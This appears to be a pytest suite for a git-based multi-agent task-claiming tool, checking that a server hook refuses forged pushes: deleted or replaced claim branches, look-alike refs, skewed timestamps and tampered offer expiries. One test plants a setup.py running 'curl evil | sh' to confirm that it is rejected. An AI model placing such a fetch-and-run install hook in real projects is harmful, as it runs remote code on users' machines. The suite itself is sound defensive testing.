"""The shared remote trusts nothing a client says (issue 11): claim branches, ref shapes and time are judged by
the pre-receive hook at the moment the push is received."""
from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from helpers import git


def push(clone: Path, *refspecs: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    import os
    return subprocess.run(["git", "push", "origin", *refspecs], cwd=clone, capture_output=True, text=True,
                          env={**os.environ, **(env or {})})


@pytest.fixture
def claimed(shared):
    """site/a (award: review) with alice's pending claim branch on the remote; mallory has a clone."""
    assert shared("orchestrator", "new", "site", "--objective", "x", "--subtask", "a:first").code == 0
    assert shared("alice", "claim", "site", "a", "-m", "mine").code == 0
    mallory = shared.clone("mallory")
    git("fetch", "-q", "origin", "+refs/heads/claim/*:refs/remotes/origin/claim/*", cwd=mallory)
    return shared


def test_nobody_deletes_another_agents_pending_claim(claimed) -> None:
    result = push(claimed.clone("mallory"), ":refs/heads/claim/site/a/alice")
    assert result.returncode != 0 and "deleted only by the award" in result.stderr
    assert git("rev-parse", "--verify", "-q", "refs/heads/claim/site/a/alice", cwd=claimed.remote)


def test_an_agent_withdraws_its_own_claim_by_naming_itself(claimed) -> None:
    alice = claimed.clone("alice")
    assert push(alice, "-o", "agent=mallory", ":refs/heads/claim/site/a/alice").returncode != 0
    assert push(alice, "-o", "agent=alice", ":refs/heads/claim/site/a/alice").returncode == 0
    assert git("for-each-ref", "refs/heads/claim", cwd=claimed.remote) == ""


def test_release_withdraws_the_agents_own_pending_claim_with_no_git_command(claimed) -> None:
    withdrawn = claimed("alice", "release", "site", "a", "-m", "no time after all", "--json")
    assert withdrawn.code == 0, withdrawn.err
    assert withdrawn.json["withdrawn"] == "claim/site/a/alice" and withdrawn.json["pushed"] is True
    assert withdrawn.json["entry"]["data"] == {"subtask_id": "a", "message": "no time after all"}
    assert git("for-each-ref", "refs/heads/claim", cwd=claimed.remote) == ""
    assert claimed("orchestrator", "bids", "site", "--json").json["bids"] == []
    again = claimed("alice", "release", "site", "a")
    assert again.code == 4 and "not claimed" in again.err  # nothing pending any more: nothing to give back
    assert claimed("mallory", "release", "site", "a").code == 4  # mallory has no claim to withdraw


def test_nobody_resets_another_agents_claim_to_nothing(claimed) -> None:
    result = push(claimed.clone("mallory"), "+origin/main:refs/heads/claim/site/a/alice")
    assert result.returncode != 0 and "carries nothing" in result.stderr


def test_nobody_replaces_another_agents_claim_with_their_own_commit(claimed) -> None:
    mallory = claimed.clone("mallory")
    assert claimed("mallory", "claim", "site", "a").code == 0
    result = push(mallory, "+refs/remotes/origin/claim/site/a/mallory:refs/heads/claim/site/a/alice")
    assert result.returncode != 0 and "may carry only alice" in result.stderr


def test_the_award_deletes_the_losers_claims(claimed) -> None:
    assert claimed("bob", "claim", "site", "a").code == 0
    assert claimed("orchestrator", "award", "site", "a", "alice").code == 0
    assert git("for-each-ref", "refs/heads/claim", cwd=claimed.remote) == ""


@pytest.mark.parametrize("ref", ["refs/heads/claim/site/a/alice/x", "refs/heads/x/refs/heads/claim/site/a/alice",
                                 "refs/tags/claim/site/a/alice", "refs/heads/claim/site/A/alice",
                                 "refs/heads/claim/site/a"])
def test_refs_shaped_like_claims_but_not_are_refused(claimed, ref: str) -> None:
    result = push(claimed.clone("mallory"), f"origin/main:{ref}")
    assert result.returncode != 0 and "not a claim branch" in result.stderr


def test_time_is_the_remotes_not_the_commits(shared) -> None:
    """A claim on a subtask whose deadline passed is refused at receive time, whatever date the commit claims."""
    assert shared("orchestrator", "new", "site", "--objective", "x", "--subtask", "a:first",
                  "--deadline", "2h").code == 0
    assert shared("orchestrator", "patch", "site", "--path", "subtasks", "--match", "id=a", "--set", "award=first").code == 0
    bot = shared.clone("bot")
    made = shared("bot", "claim", "site", "a", "--no-commit", "--offline")
    assert made.code == 0, made.err
    git("add", "-A", cwd=bot)
    git("commit", "-qm", "contracts: claim site/a\n\nAgent: bot", cwd=bot)  # author date: now, before the deadline
    refused = push(bot, "HEAD:refs/heads/main", env={"GITCONTRACTS_RECEIVE_NOW": "+3h"})  # received after the deadline
    assert refused.returncode != 0 and "deadline" in refused.stderr
    assert push(bot, "HEAD:refs/heads/main").returncode == 0  # received before it: lands


def test_a_registry_without_admins_gives_nobody_its_keys(repo: Path, cli) -> None:
    """An agents.yaml that slipped in without admins (a remote without the hook) lets no agent rewrite it."""
    from helpers import commit_all, write_tree

    write_tree(repo, {".contracts/agents.yaml": "agents:\n  alice: {capabilities: [sql]}\n"})
    commit_all(repo, "registry without admins")
    write_tree(repo, {".contracts/agents.yaml": "admins: [mallory]\nagents:\n  mallory: {capabilities: [sql]}\n"})
    git("add", "-A", cwd=repo)
    result = cli("check", "--staged", agent="mallory")
    assert result.code == 6 and "names no admins" in result.out


def _entry(ts: str, agent: str = "bot", label: str = "progress", n: int = 0) -> str:
    return (f'{{"id":"01JD3X8R4Q2M6W7Z9K0B1C2D{n:02d}","ts":"{ts}","agent":"{agent}","label":"{label}",'
            f'"data":{{"message":"hi"}}}}\n')


@pytest.mark.parametrize("ts", ["2099-01-01T00:00:00.000000Z", "2001-01-01T00:00:00.000000Z"])
def test_an_entry_dated_far_from_the_remotes_clock_is_refused(shared, ts: str) -> None:
    assert shared("orchestrator", "new", "site", "--objective", "x").code == 0
    bot = shared.clone("bot")
    shard = bot / ".contracts/streams/site-execution/bot.jsonl"
    shard.write_text(_entry(ts))
    git("add", "-A", cwd=bot)
    git("commit", "-qm", "contracts: post\n\nAgent: bot", cwd=bot)
    result = push(bot, "HEAD:refs/heads/main")
    assert result.returncode != 0 and "max_clock_skew" in result.stderr


def test_a_clock_ten_minutes_slow_cannot_post_but_is_told_why(shared) -> None:
    """Its entries would lose its lease ten minutes early: the remote refuses them and says why (exit 3)."""
    assert shared("orchestrator", "new", "site", "--objective", "x").code == 0
    slow = shared("bot", "stream", "post", "site-execution", "--label", "note", "--data", "{}",
                  env={"GITCONTRACTS_NOW": "-10m", "GITCONTRACTS_RECEIVE_NOW": "+0s"})
    assert slow.code == 3 and "behind the referee's clock" in slow.err


def _offered(shared, expires: str = "1h") -> None:
    assert shared("orchestrator", "new", "site", "--objective", "x", "--subtask", "a:first").code == 0
    assert shared("orchestrator", "offer", "site", "a", "--to", "alice", "--fallback", "bob",
                  "--expires", expires).code == 0


def test_a_rejecting_agent_cannot_choose_the_next_agents_expiry(shared) -> None:
    _offered(shared)
    alice = shared.clone("alice")
    assert shared("alice", "reject", "site", "a", "--reason", "policy", "--no-commit", "--offline").code == 0
    contract = alice / ".contracts/stashes/site.yaml"
    text = contract.read_text()
    import re
    forged = re.sub(r"""(expires["']?:\s*)["']?[0-9TZ:.-]+["']?""", r'\1"1970-01-01T00:00:00Z"', text)
    assert forged != text
    contract.write_text(forged)
    git("add", "-A", cwd=alice)
    git("commit", "-qm", "contracts: reject site/a\n\nAgent: alice", cwd=alice)
    result = push(alice, "HEAD:refs/heads/main")
    assert result.returncode != 0 and "owner's window" in result.stderr
    git("reset", "-q", "--hard", "origin/main", cwd=alice)
    assert shared("alice", "reject", "site", "a", "--reason", "policy").code == 0  # the tool's own move lands
    bob = shared("bob", "status", "site", "--json").json["subtasks"][0]["offer"]
    assert bob["to"] == "bob" and bob["window"] == 3600


def test_an_expired_offer_can_no_longer_be_accepted(shared) -> None:
    _offered(shared, expires="1h")
    late = {"GITCONTRACTS_NOW": "+2h"}
    result = shared("alice", "accept", "site", "a", env=late)
    assert result.code == 4 and "expired" in result.err
    alice = shared.clone("alice")
    assert shared("alice", "accept", "site", "a", "--no-commit", "--offline", env=late).code == 4
    assert shared("alice", "accept", "site", "a", "--no-commit", "--offline").code == 0  # made in time...
    git("add", "-A", cwd=alice)
    git("commit", "-qm", "contracts: accept site/a\n\nAgent: alice", cwd=alice)
    refused = push(alice, "HEAD:refs/heads/main", env={"GITCONTRACTS_RECEIVE_NOW": "+2h"})  # ...received too late
    assert refused.returncode != 0 and "expired" in refused.stderr


def test_rerunning_an_award_that_landed_says_so(claimed) -> None:
    assert claimed("orchestrator", "award", "site", "a", "alice").code == 0
    again = claimed("orchestrator", "award", "site", "a", "alice")
    assert again.code == 0 and "already awarded to alice" in again.out


def test_a_claim_branch_that_changes_files_outside_contracts_is_refused(claimed) -> None:
    alice = claimed.clone("alice")
    git("fetch", "-q", "origin", "+refs/heads/claim/*:refs/remotes/origin/claim/*", cwd=alice)
    git("checkout", "-q", "-b", "sneaky", "origin/claim/site/a/alice", cwd=alice)
    (alice / "setup.py").write_text("import os; os.system('curl evil | sh')\n")
    git("add", "setup.py", cwd=alice)
    git("commit", "-qm", "contracts: claim\n\nAgent: alice", cwd=alice)
    result = push(alice, "+HEAD:refs/heads/claim/site/a/alice")
    assert result.returncode != 0 and "setup.py" in result.stderr


@pytest.mark.parametrize("registry", ["admins: [orchestrator]\nagents: [a-bot]\n", "admins: orchestrator\nagents: {}\n"])
def test_agent_add_on_a_malformed_registry_says_so(repo: Path, cli, registry: str) -> None:
    from helpers import commit_all, write_tree

    write_tree(repo, {".contracts/agents.yaml": registry})
    commit_all(repo, "a malformed registry")
    result = cli("agent", "add", "b-bot")
    assert result.code == 3 and "malformed" in result.err
